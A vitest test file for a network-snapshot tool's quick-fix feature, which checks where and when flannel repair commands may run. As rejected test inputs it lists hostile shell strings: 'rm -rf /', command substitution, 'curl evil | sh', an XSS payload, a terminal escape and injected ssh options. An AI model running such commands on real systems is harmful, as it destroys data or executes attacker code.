import { describe, expect, it } from 'vitest';
import {
  canRun,
  collectedVia,
  commandsFor,
  COPY_FIX_ACTION,
  fixActions,
  fixReport,
  isSafeToRun,
  resolveFinding,
  RUN_FIX_ACTION,
  runConfirmation,
  runFix,
  runPlace,
  type FindingRef,
  type RunFixHost,
} from '../../../src/core/language';
import type { HostModel } from '../../../src/core/model/types';
import { CLUSTER, K8SNODE, keyOf, workspaceOf } from './support';

const flnode1 = keyOf(CLUSTER[0] ?? '');

describe('quick fixes', () => {
  it('offers copy and run for a finding with a repair, on its line only', () => {
    const ws = workspaceOf(CLUSTER);
    const actions = fixActions(ws, flnode1, 14, 14, 'flnode1');
    expect(actions.map((a) => [a.kind, a.title])).toEqual([
      ['copy', 'Copy fix for neigh-mac-mismatch: 3 commands'],
      ['run', 'Run fix for neigh-mac-mismatch in a terminal…'],
    ]);
    expect(actions[0]?.ref).toEqual({ key: flnode1, line: 14, code: 'neigh-mac-mismatch', node: 'flnode1' });
    expect(actions[0]?.commands).toEqual([
      'ip neigh replace 10.27.3.0 lladdr 42:32:74:de:33:99 dev flannel.1 nud permanent',
      'bridge fdb append 42:32:74:de:33:99 dev flannel.1 dst 10.18.19.13 self permanent',
      'bridge fdb del 42:32:74:de:03:03 dev flannel.1 dst 10.18.19.13 self',
    ]);
    expect(fixActions(ws, flnode1, 13, 13, 'flnode1')).toEqual([]);
    expect(fixActions(ws, flnode1, 1, 83, 'flnode1')).toHaveLength(2);
    // Elsewhere (or where the editor's machine is unknown) the fix can only be copied.
    expect(fixActions(ws, flnode1, 14, 14, 'laptop').map((a) => a.kind)).toEqual(['copy']);
    expect(fixActions(ws, flnode1, 14).map((a) => a.kind)).toEqual(['copy']);
    const single = fixActions(workspaceOf([K8SNODE]), keyOf(K8SNODE), 110);
    expect(single[0]?.title).toBe('Copy fix for neigh-stale: `ip neigh del 10.29.13.0 dev flannel.1`');
  });

  it('shows the node, where it would run and every command verbatim before running', () => {
    const ws = workspaceOf(CLUSTER);
    const finding = resolveFinding(ws, {
      key: flnode1,
      line: 14,
      code: 'neigh-mac-mismatch',
      node: 'flnode1',
    });
    expect(finding).toBeDefined();
    const here = { here: true, why: 'This machine is flnode1.' };
    const confirm = runConfirmation(finding ?? ({} as never), here);
    expect(confirm.message).toBe(
      'Run these 3 commands in a new terminal? They repair neigh-mac-mismatch on node flnode1, as root.',
    );
    expect(confirm.detail).toBe(`This machine is flnode1.\n\n${finding?.fix ?? ''}`);
    const elsewhere = runConfirmation(finding ?? ({} as never), { here: false, why: 'Not here.' });
    expect(elsewhere.message).toBe(
      'Copy these 3 commands? They repair neigh-mac-mismatch on node flnode1; they are not run here.',
    );
    const report = fixReport(finding ?? ({} as never), here);
    expect(report.title).toBe('Fix for neigh-mac-mismatch on flnode1');
    expect(report.text.split('\n').slice(3, 6).join('\n')).toBe(finding?.fix);
  });

  describe('where a fix may run', () => {
    const node = (name: string, extra: Partial<HostModel> = {}) =>
      ({ name, role: 'node', ...extra }) as HostModel;
    const recorded = (name: string, hostname: string) =>
      node(name, { hostname: { name: hostname, loc: { file: 'a', line: 1 } } });

    it('here only when the terminals’ machine is the node', () => {
      expect(runPlace(node('flnode1'), 'flnode1').here).toBe(true);
      expect(runPlace(node('flnode1'), 'FLNODE1').here).toBe(true);
      expect(runPlace(node('flnode1'), 'flnode1.lab.example').here).toBe(true);
      expect(runPlace(node('flnode1.lab.example'), 'flnode1').here).toBe(true);
      expect(runPlace(node('flnode1'), 'flnode2').here).toBe(false);
      expect(runPlace(node('flnode1'), 'laptop').why).toBe(
        "This fix is for node flnode1 (node name flnode1), but this editor's terminals open on laptop: copy the commands and run them on flnode1, as root.",
      );
      // Two full names must be equal: flnode1 of another domain is another machine.
      expect(runPlace(node('flnode1.a.example'), 'flnode1.b.example').here).toBe(false);
      expect(runPlace(node('flnode1'), '').here).toBe(false);
    });

    it('trusts the snapshot’s hostname output over a node name given by hand', () => {
      expect(runPlace(recorded('web', 'k8snode028'), 'k8snode028').here).toBe(true);
      expect(runPlace(recorded('k8snode028', 'other'), 'k8snode028').here).toBe(false);
    });

    it('through the transport the snapshot was collected with, only from the machine that used it', () => {
      const via = { kind: 'ssh', target: 'root@flnode1', from: 'laptop' } as const;
      const place = runPlace(node('flnode1'), 'laptop', via);
      expect([place.here, place.through, canRun(place)]).toEqual([false, via, true]);
      expect(place.why).toBe(
        'This machine (laptop) collected node flnode1 through ssh root@flnode1: the commands go the same way.',
      );
      // A colleague's machine has another ssh config and other namespaces.
      expect(canRun(runPlace(node('flnode1'), 'desk', via))).toBe(false);
      // On the node itself, nothing is wrapped.
      expect(runPlace(node('flnode1'), 'flnode1', via).through).toBeUndefined();
      const fix = ["ip link set 'veth$(x)' master cni0", 'ip link set flannel.1 up'];
      expect(commandsFor(place, fix)).toEqual([
        `ssh -- root@flnode1 'ip link set '\\''veth$(x)'\\'' master cni0'`,
        "ssh -- root@flnode1 'ip link set flannel.1 up'",
      ]);
      const netns = runPlace(node('flnode1'), 'laptop', { kind: 'netns', target: 'flnode1', from: 'laptop' });
      expect(commandsFor(netns, fix)).toEqual([
        "ip netns exec flnode1 ip link set 'veth$(x)' master cni0",
        'ip netns exec flnode1 ip link set flannel.1 up',
      ]);
      expect(commandsFor(runPlace(node('flnode1'), 'flnode1'), fix)).toEqual(fix);
    });

    it('reads the transport only from a collected transcript’s first two lines', () => {
      const head =
        '### node flnode1\n### collected 2026-12-02T03:27:17Z by netsnap via ssh root@flnode1 from laptop\n';
      expect(collectedVia(`${head}### hostname\nflnode1\n`, 'flnode1')).toEqual({
        kind: 'ssh',
        target: 'root@flnode1',
        from: 'laptop',
      });
      expect(
        collectedVia(
          '### node n1\r\n### collected 2026-12-02T03:27:17Z by netsnap via netns n1 from lab\r\n',
          'n1',
        ),
      ).toEqual({ kind: 'netns', target: 'n1', from: 'lab' });
      expect(collectedVia(head, 'flnode2')).toBeUndefined();
      expect(collectedVia(`### hostname\nflnode1\n${head}`, 'flnode1')).toBeUndefined();
      expect(
        collectedVia('### node flnode1\n### collected 2026-12-02T03:27:17Z by netsnap\n', 'flnode1'),
      ).toBeUndefined();
      for (const kind of ['ssh', 'netns', 'exec'])
        for (const target of ['-oProxyCommand=x', "a'b", 'a;b', '$(x)', 'a b', 'a/b'])
          expect(
            collectedVia(
              `### node n\n### collected 2026-12-02T03:27:17Z by netsnap via ${kind} ${target} from laptop\n`,
              'n',
            ),
            `${kind} ${target}`,
          ).toBeUndefined();
    });

    it('a namespace capture only through the namespace: its hostname output names the machine', () => {
      const via = { kind: 'netns', target: 'flnode1', from: 'lab' } as const;
      // `hostname` inside `ip netns exec flnode1` prints the lab machine's name.
      const place = runPlace(recorded('flnode1', 'lab'), 'lab', via);
      expect([place.here, place.through]).toEqual([false, via]);
      expect(commandsFor(place, ['ip link set flannel.1 up'])).toEqual([
        'ip netns exec flnode1 ip link set flannel.1 up',
      ]);
      expect(canRun(runPlace(recorded('flnode1', 'lab'), 'desk', via))).toBe(false);
    });

    it('never through, nor here, for a node collected through a command (exec): Copy only, saying why', () => {
      const via = { kind: 'exec', target: 'kubectl', from: 'laptop' } as const;
      for (const terminal of ['laptop', 'flnode1']) {
        const place = runPlace(node('flnode1'), terminal, via);
        expect([place.here, place.through, canRun(place)], terminal).toEqual([false, undefined, false]);
        expect(place.why).toBe(
          'Node flnode1 was collected through a command (kubectl), which netsnap does not repeat and which may have led into a container or namespace: copy the commands and run them on flnode1, as root.',
        );
      }
      // Its hostname output says this machine (an `ip netns exec` shares the host name): still Copy.
      expect(canRun(runPlace(recorded('n1', 'laptop'), 'laptop', via))).toBe(false);
      expect(
        collectedVia(
          '### node n1\n### collected 2026-12-02T03:27:17Z by netsnap via exec kubectl from laptop\n',
          'n1',
        ),
      ).toEqual(via);
    });

    it('never for a pod or a node the workspace lost', () => {
      expect(runPlace(node('flnode1', { role: 'pod' }), 'flnode1').here).toBe(false);
      expect(runPlace(undefined, 'flnode1').here).toBe(false);
    });
  });

  it('forgets a finding an edit removed', () => {
    const ws = workspaceOf(CLUSTER);
    const ref = { key: flnode1, line: 14, code: 'neigh-mac-mismatch', node: 'flnode1' } as const;
    ws.set(flnode1, (ws.text(flnode1) ?? '').replaceAll('42:32:74:de:03:03', '42:32:74:de:33:99'));
    expect(resolveFinding(ws, ref)).toBeUndefined();
    expect(resolveFinding(ws, { ...ref, key: 'file:///nowhere' })).toBeUndefined();
  });

  it('runs only commands with no shell syntax', () => {
    expect(
      isSafeToRun([
        'ip neigh del 10.29.13.0 dev flannel.1',
        'bridge fdb del 42:32:74:de:03:03 dev flannel.1 self',
      ]),
    ).toBe(true);
    expect(isSafeToRun(['ip link set flannel.1 up'])).toBe(true);
    // Single-quoted as fixes.ts quotes a hostile name: one literal word to the shell.
    expect(isSafeToRun(["ip link set 'flannel.1;reboot' up", `ip link set 'it'\\''s' up`])).toBe(true);
    for (const bad of [
      'ip link set x; rm -rf /',
      'ip link set `reboot` up',
      'ip link set $(reboot) up',
      'ip link set x up && curl evil | sh',
      'ip link set x up > /etc/passwd',
      "ip link set 'x' y' up",
      "ip link set 'x\ny' up",
      "ip link set 'x\u001b]52;c;eA==\u0007' up",
      'ip link set "$(reboot)" up',
      'rm -rf /',
      'ip link set x\nreboot',
      'ip link set <img/src=x/onerror=alert(1)> up',
    ]) {
      expect(isSafeToRun([bad]), bad).toBe(false);
    }
    expect(isSafeToRun([])).toBe(false);
  });

  it('quotes a hostile interface name in every command it offers', () => {
    const ws = workspaceOf([]);
    ws.set(
      'evil',
      [
        '[root@evil ~]# ip -d link',
        '3: flannel.1;reboot: <BROADCAST,MULTICAST> mtu 1450 qdisc noqueue state DOWN mode DEFAULT group default qlen 1000',
        '    link/ether 42:32:74:de:01:01 brd ff:ff:ff:ff:ff:ff promiscuity 0',
        '    vxlan id 1 local 10.18.19.11 dev eth0 srcport 0 0 dstport 8472 nolearning ttl auto ageing 300',
        '[root@evil ~]# cat /run/flannel/subnet.env',
        'FLANNEL_NETWORK=10.27.0.0/16',
        'FLANNEL_SUBNET=10.27.1.1/24',
        'FLANNEL_MTU=1450',
        'FLANNEL_IPMASQ=true',
      ].join('\n'),
      'evil.netsnap',
    );
    const actions = ws.analysis().findings.flatMap((f) => fixActions(ws, 'evil', f.line, f.line, 'evil'));
    const commands = actions.flatMap((a) => a.commands);
    expect(commands).toContain("ip link set 'flannel.1;reboot' up");
    expect(commands.every((c) => !c.includes(';') || c.includes("'flannel.1;reboot'"))).toBe(true);
  });

  describe('running a fix', () => {
    const ref: FindingRef = { key: flnode1, line: 14, code: 'neigh-mac-mismatch', node: 'flnode1' };
    /**
     * A host that records what it was asked to do; `answer` picks a button of the modal by index (0 is
     * what Enter presses), undefined dismisses it. Its terminals open on `terminalHost`.
     */
    function host(trusted: boolean, answer: number | undefined, terminalHost = 'flnode1') {
      const seen = {
        warnings: [] as string[],
        shown: [] as string[],
        confirmations: [] as { message: string; detail: string; choices: readonly string[] }[],
        copied: [] as string[],
        terminals: [] as { name: string; commands: readonly string[] }[],
      };
      const h: RunFixHost = {
        trusted,
        terminalHost,
        warn: (message) => seen.warnings.push(message),
        show: (report) => {
          seen.shown.push(report.text);
          return Promise.resolve();
        },
        choose: (message, detail, choices) => {
          seen.confirmations.push({ message, detail, choices });
          return Promise.resolve(answer === undefined ? undefined : choices[answer]);
        },
        copy: (text) => {
          seen.copied.push(text);
          return Promise.resolve();
        },
        run: (name, commands) => seen.terminals.push({ name, commands }),
      };
      return { h, seen };
    }
    const COMMANDS = [
      'ip neigh replace 10.27.3.0 lladdr 42:32:74:de:33:99 dev flannel.1 nud permanent',
      'bridge fdb append 42:32:74:de:33:99 dev flannel.1 dst 10.18.19.13 self permanent',
      'bridge fdb del 42:32:74:de:03:03 dev flannel.1 dst 10.18.19.13 self',
    ];

    it('refuses with a warning in an untrusted workspace, before asking anything', async () => {
      const { h, seen } = host(false, 1);
      expect(await runFix(workspaceOf(CLUSTER), ref, h)).toBe('untrusted');
      expect(seen.warnings).toEqual([
        'netsnap runs repair commands only in a trusted workspace. Copy the fix instead.',
      ]);
      expect(seen.confirmations).toEqual([]);
      expect(seen.terminals).toEqual([]);
    });

    it('on the node, runs exactly the finding’s commands only when Run is chosen; Enter copies', async () => {
      const ws = workspaceOf(CLUSTER);
      const dismissed = host(true, undefined);
      expect(await runFix(ws, ref, dismissed.h)).toBe('cancelled');
      expect([dismissed.seen.terminals, dismissed.seen.copied]).toEqual([[], []]);

      // A stray Enter presses the first button: Copy.
      const enter = host(true, 0);
      expect(await runFix(ws, ref, enter.h)).toBe('copied');
      expect(enter.seen.terminals).toEqual([]);
      expect(enter.seen.copied).toEqual([`${COMMANDS.join('\n')}\n`]);

      const { h, seen } = host(true, 1);
      expect(await runFix(ws, ref, h)).toBe('ran');
      const finding = resolveFinding(ws, ref);
      const place = runPlace(ws.hosts().find((x) => x.host.name === 'flnode1')?.host, 'flnode1');
      expect(place.here).toBe(true);
      expect(seen.shown).toEqual([fixReport(finding ?? ({} as never), place).text]);
      expect(seen.confirmations).toEqual([
        { ...runConfirmation(finding ?? ({} as never), place), choices: [COPY_FIX_ACTION, RUN_FIX_ACTION] },
      ]);
      expect(seen.terminals).toEqual([{ name: 'netsnap fix: flnode1', commands: COMMANDS }]);
      expect(seen.warnings).toEqual([]);
    });

    it('through the recorded transport, types the wrapped commands', async () => {
      const ws = workspaceOf(CLUSTER);
      const text = ws.text(flnode1) ?? '';
      ws.set(
        flnode1,
        `### node flnode1\n### collected 2026-12-02T03:27:17Z by netsnap via ssh root@flnode1 from laptop\n${text}`,
      );
      const moved = fixActions(ws, flnode1, 16, 16, 'laptop');
      expect(moved.map((a) => a.kind)).toEqual(['copy', 'run']);
      const { h, seen } = host(true, 1, 'laptop');
      expect(await runFix(ws, moved[0]?.ref, h)).toBe('ran');
      expect(seen.confirmations[0]?.message).toBe(
        'Run these 3 commands in a new terminal through ssh root@flnode1? They repair neigh-mac-mismatch on node flnode1, as root.',
      );
      expect(seen.terminals).toEqual([
        { name: 'netsnap fix: flnode1', commands: COMMANDS.map((c) => `ssh -- root@flnode1 '${c}'`) },
      ]);
      expect(seen.shown[0]).toContain(`ssh -- root@flnode1 '${COMMANDS[0] ?? ''}'`);
    });

    it('a snapshot collected through a command: Copy only, even on the machine and the node named', async () => {
      const ws = workspaceOf(CLUSTER);
      const text = ws.text(flnode1) ?? '';
      ws.set(
        flnode1,
        `### node flnode1\n### collected 2026-12-02T03:27:17Z by netsnap via exec kubectl from laptop\n${text}`,
      );
      for (const terminal of ['laptop', 'flnode1'])
        expect(
          fixActions(ws, flnode1, 16, 16, terminal).map((a) => a.kind),
          terminal,
        ).toEqual(['copy']);
      const { h, seen } = host(true, 0, 'laptop');
      const ref16 = fixActions(ws, flnode1, 16, 16, 'laptop')[0]?.ref;
      expect(await runFix(ws, ref16, h)).toBe('copied');
      expect(seen.confirmations[0]?.choices).toEqual([COPY_FIX_ACTION]);
      expect(seen.confirmations[0]?.detail).toContain('was collected through a command (kubectl)');
      expect(seen.terminals).toEqual([]);
    });

    it('elsewhere, offers Copy only and says why', async () => {
      const ws = workspaceOf(CLUSTER);
      const { h, seen } = host(true, 0, 'laptop');
      expect(await runFix(ws, ref, h)).toBe('copied');
      expect(seen.confirmations).toHaveLength(1);
      expect(seen.confirmations[0]?.choices).toEqual([COPY_FIX_ACTION]);
      expect(seen.confirmations[0]?.detail).toContain("this editor's terminals open on laptop");
      expect(seen.shown[0]).toContain(
        "# This fix is for node flnode1 (node name flnode1), but this editor's",
      );
      expect(seen.terminals).toEqual([]);
      // Even a forged answer (a button that was not offered) runs nothing.
      const forged: RunFixHost = { ...h, choose: () => Promise.resolve(RUN_FIX_ACTION) };
      expect(await runFix(ws, ref, forged)).toBe('cancelled');
      expect(seen.terminals).toEqual([]);
    });

    it('runs nothing for a finding an edit removed, or for no finding at all', async () => {
      const ws = workspaceOf(CLUSTER);
      ws.set(flnode1, (ws.text(flnode1) ?? '').replaceAll('42:32:74:de:03:03', '42:32:74:de:33:99'));
      for (const r of [ref, undefined]) {
        const { h, seen } = host(true, 1);
        expect(await runFix(ws, r, h)).toBe('gone');
        expect(seen.warnings).toEqual([
          'netsnap: that finding is gone after the last change; nothing was run.',
        ]);
        expect(seen.confirmations).toEqual([]);
        expect(seen.terminals).toEqual([]);
      }
    });
  });
});
